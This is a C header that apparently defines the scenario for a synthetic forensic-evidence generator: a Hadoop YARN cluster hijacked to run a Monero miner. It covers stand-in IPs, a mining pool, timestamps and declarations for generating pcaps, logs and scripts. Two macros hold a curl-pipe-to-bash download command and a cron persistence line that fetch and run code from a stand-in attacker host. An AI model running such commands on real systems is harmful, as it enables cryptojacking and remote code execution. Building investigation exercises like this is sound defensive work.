/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ym.h - the world of the "Hadoop YARN to Monero miner (cloud VMs)" story: two Hadoop
 * servers, the attacker's submitter, download server and mining pool, the YARN application
 * and container ids, PIDs and times every evidence file must agree on.
 */
#ifndef YM_H
#define YM_H

#include <stddef.h>
#include <stdint.h>

#include "pcap.h"
#include "sb.h"

#define YM_STORY "yarn-miner"
#define YM_TITLE "Hadoop YARN to Monero miner (cloud VMs)"
#define YM_SUBMIT_IP "203.0.113.51"       /* posts to the ResourceManager REST API */
#define YM_DROP_IP "198.51.100.61"        /* serves y.sh and the miner */
#define YM_POOL_IP "198.51.100.140"
#define YM_POOL_HOST "pool.monerohash.example"
#define YM_POOL_URL "stratum+tcp://" YM_POOL_HOST ":3333"
#define YM_CMD "curl -fsSL http://" YM_DROP_IP "/y.sh | bash"
#define YM_CRON_LINE "*/5 * * * * (pgrep -x kthreaddk || curl -fsSL http://" YM_DROP_IP \
    "/y.sh | bash) >/dev/null 2>&1"
/* The MapReduce AM command YARN's own clients submit (the benign ETL jobs). */
#define YM_MR_CMD "{{JAVA_HOME}}/bin/java -Djava.io.tmpdir={{PWD}}/tmp -Dlog4j.configuration=" \
    "container-log4j.properties -Dyarn.app.container.log.dir=<LOG_DIR> -Xmx1024m " \
    "org.apache.hadoop.mapreduce.v2.app.MRAppMaster 1><LOG_DIR>/stdout 2><LOG_DIR>/stderr "
#define YM_MINER "kthreaddk"
#define YM_DROP_DIR "/var/tmp/.x"
#define YM_NM_LOCAL "/tmp/hadoop-yarn/nm-local-dir"
#define YM_HADOOP "/opt/hadoop-3.3.6"
#define YM_YARN_HOME "/var/lib/hadoop-yarn"
#define YM_MONITOR_IP "10.0.9.5"
#define YM_AIRFLOW_IP "10.0.9.20"
#define YM_ADMIN_IP "10.0.9.30"
#define YM_PCAP "pcap/hadoop-master-eth0-20260908.pcap"

/* The day: 2026-09-08 UTC; the ResourceManager started on 2026-09-04 (its cluster stamp). */
#define YM_Y 2026
#define YM_MO 9
#define YM_D 8

enum { YM_MASTER, YM_WORKER, YM_NHOSTS };

struct ym_host {
    const char *name, *ip;
    uint32_t app_seq;             /* the attacker's application that landed here */
    int64_t launch;               /* container start, seconds */
    int64_t miner_start;          /* first miner start, seconds */
    int miner_pid, cron_pid;
    int64_t restart;              /* 0, or when cron restarted the miner (seconds) */
    int miner_pid2;
    int64_t collected;            /* when the bodyfile was taken */
    size_t size_syslog, size_auth, size_rm, size_nm, size_cron, size_conf, size_launch,
        size_alice;               /* of the files written, for the bodyfile */
};

struct ym_world {
    int scale;
    int64_t day0;                 /* 00:00:00, seconds */
    int64_t cluster_ts;           /* ResourceManager start, ms (application id stamp) */
    struct ym_host host[YM_NHOSTS];
    int64_t submit;               /* first attacker request, seconds */
    int64_t kill;                 /* the admin kills the miner on the master, seconds */
    uint32_t first_seq;           /* first application sequence number of the day */
    char wallet[96];
    uint64_t n_packets, n_bytes, n_body, n_log;
};

/* 2026-09-08 hh:mm:ss in seconds. */
int64_t ym_at(const struct ym_world *yw, int h, int m, int s);
/* "application_<cluster>_<seq, 4 digits>" and its first container id. */
char *ym_app(char *o, size_t n, const struct ym_world *yw, uint32_t seq);
char *ym_container(char *o, size_t n, const struct ym_world *yw, uint32_t seq, int c);
/* The application sequence number of the benign ETL job of hour h. */
uint32_t ym_etl_seq(const struct ym_world *yw, int h);
/* A plausible PID for a process started at `t` on a host (PIDs grow through the day). */
int ym_pid(const struct ym_world *yw, int64_t t);
/* One attack note (notes.h): time in seconds, what, and where (file and line/frame). */
void ym_note(int64_t t, const char *what, const char *where);

/* The master's packet capture. */
void ym_net(struct ym_world *yw);
/* Each server's filesystem timeline (bodyfile). */
void ym_fs(struct ym_world *yw);
/* Each server's logs and the collected files (crontab, xmrig config, launch script...). */
void ym_logs(struct ym_world *yw);
/* The drop script y.sh as served by the download server, for host `h`'s run. */
void ym_script(struct sb *b, const struct ym_world *yw);
/* The xmrig config.json written on host h. */
void ym_xmrig_config(struct sb *b, const struct ym_world *yw, int h);
/* The launch_container.sh the NodeManager wrote for the attacker's container on host h. */
void ym_launch_script(struct sb *b, const struct ym_world *yw, int h);

#endif
